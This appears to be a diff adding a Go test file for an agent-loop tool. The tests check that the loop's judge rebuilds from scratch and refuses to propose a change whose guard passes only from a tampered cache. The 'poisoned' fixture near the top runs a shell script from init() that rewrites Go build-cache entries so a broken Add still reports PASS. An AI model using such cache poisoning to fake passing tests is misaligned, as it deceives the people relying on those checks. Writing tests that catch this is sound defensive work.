@@ -1,0 +1,123 @@
+package hostile_test
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"pawl/test/world"
+)
+
+// adding is a Go package with a test that the loop's agent can't change.
+var adding = map[string]string{
+	"go.mod": "module poc\n\ngo 1.21\n", "calc/calc.go": "package calc\n\nfunc Add(a, b int) int { return a + b }\n",
+	"calc/calc_test.go": `package calc_test
+
+import (
+	"testing"
+
+	"poc/calc"
+)
+
+func TestAdd(t *testing.T) {
+	if calc.Add(1, 2) != 3 {
+		t.Fatal("1 + 2 is", calc.Add(1, 2))
+	}
+}
+`,
+}
+
+// poisoned is a package that still adds. When its test runs, it makes Go's cache answer a question that nobody has asked
+// yet: the entry for the package with a wrong sum leads to the object of the right one.
+const poisoned = `package calc
+
+import (
+	"os"
+	"os/exec"
+)
+
+func Add(a, b int) int { return a + b }
+
+func init() {
+	if os.Getenv("POISONS") == "" {
+		_ = exec.Command("sh", "-ec", poison).Run()
+	}
+}
+
+const poison = ` + "`" + `export POISONS=1
+cp calc.go /tmp/calc.go
+export_of() { printf 'package calc\n\nfunc Add(a, b int) int { return a %s b }\n' "$1" >calc.go; go list -export -f '{{.Export}}' .; }
+out_of() { basename "$1" | cut -d- -f1; }
+good=$(export_of +)
+touch /tmp/mark
+bad=$(export_of -)
+mv /tmp/calc.go calc.go
+entry=$(find "$GOCACHE" -name '*-a' -newer /tmp/mark -exec grep -l "$(out_of "$bad")" {} +)
+sed -i "s/$(out_of "$bad") *[0-9]*/$(printf '%s %20d' "$(out_of "$good")" "$(stat -c %s "$good")")/" "$entry"
+` + "`" + `
+`
+
+// TestE6_PoisonThatAKeptChangeLeavesIsNotProposed has a change that is honestly kept poison the judge's build cache. The
+// next change takes the poison out of the code and breaks it, and go test prints a PASS from the cache. From scratch it
+// fails, and nothing is proposed.
+func TestE6_PoisonThatAKeptChangeLeavesIsNotProposed(t *testing.T) {
+	for _, way := range deedsHere() {
+		if way == byNobody {
+			continue
+		}
+		t.Run(way, func(t *testing.T) {
+			if way != byRoot {
+				world.Slow(t, "the layers are the same")
+			}
+			needsWay(t, way)
+			w, use := worldOf(t, way)
+			w.Script(`echo $(($(cat work/n) + 1)) >work/n; cp "$WORLD/$PAWL_ITERATION.go" calc/calc.go; echo "change $PAWL_ITERATION"`)
+			for name, content := range adding {
+				w.Write("repo/"+name, content)
+			}
+			w.Commit("a package that adds")
+			w.Write("1.go", poisoned)
+			w.Write("2.go", "package calc\n\nfunc Add(a, b int) int { return a - b }\n")
+			w.Before = w.Snapshot()
+			w.Set(doc{"scope": []string{"work/**", "calc/**"}, "guard": doc{"command": "go test ./calc"}, "limits": doc{"iterations": 2}, "sandbox": doc{"use": use}})
+			servesIn(t, w, way)
+			r := w.Run(3)
+
+			rows := w.Results(w.Loop)
+			require.Len(t, rows, 3)
+			require.Equal(t, []string{"yes", "yes"}, []string{rows[1].Kept(), rows[2].Kept()}, "the cache answers, or this test shows nothing")
+			require.Equal(t, "NOT_REPRODUCED", r.Result.ErrorCode)
+			require.Contains(t, r.Result.Reason, "the guard command passed before, and fails from scratch (exit 1): `go test ./calc`")
+			require.Contains(t, r.Result.Reason, "1 + 2 is -1")
+			require.Nil(t, r.Result.Proposal)
+			require.Contains(t, w.Pawl("show", w.Loop).Out, "the guard command passed before")
+			require.NotZero(t, w.Pawl("apply", w.Loop).Code)
+		})
+	}
+}
+
+// TestE6_AnHonestLoopPassesFromScratch: setup runs again for it, and people are told.
+func TestE6_AnHonestLoopPassesFromScratch(t *testing.T) {
+	needsWay(t, byRoot)
+	w, use := worldOf(t, byRoot)
+	w.Script(world.Raises)
+	for name, content := range adding {
+		w.Write("repo/"+name, content)
+	}
+	w.Write("repo/.gitignore", "tool\n")
+	w.Commit("a package that adds")
+	w.Before = w.Snapshot()
+	w.Set(doc{
+		"setup":  doc{"command": `go vet ./calc && date +%N >tool && echo "$(basename "$PWD")" >>"` + w.Dir + `/setups"`},
+		"guard":  doc{"command": "test -s tool && go test ./calc"},
+		"limits": doc{"iterations": 2}, "sandbox": doc{"use": use},
+	})
+	r := w.Run(0)
+	require.NotNil(t, r.Result.Proposal)
+	require.Equal(t, 2, r.Result.KeptCount)
+	require.Equal(t, "judge\ndesk\njudge\n", w.Read("setups"))
+	require.Contains(t, w.Pawl("show", w.Loop).Out, "the head passes in caches that no change of the loop has written, and measures 12")
+	events, _ := w.Events()
+	require.Contains(t, world.Types(events), "judged_from_scratch")
+	require.NotContains(t, world.Types(events), "warned")
+}
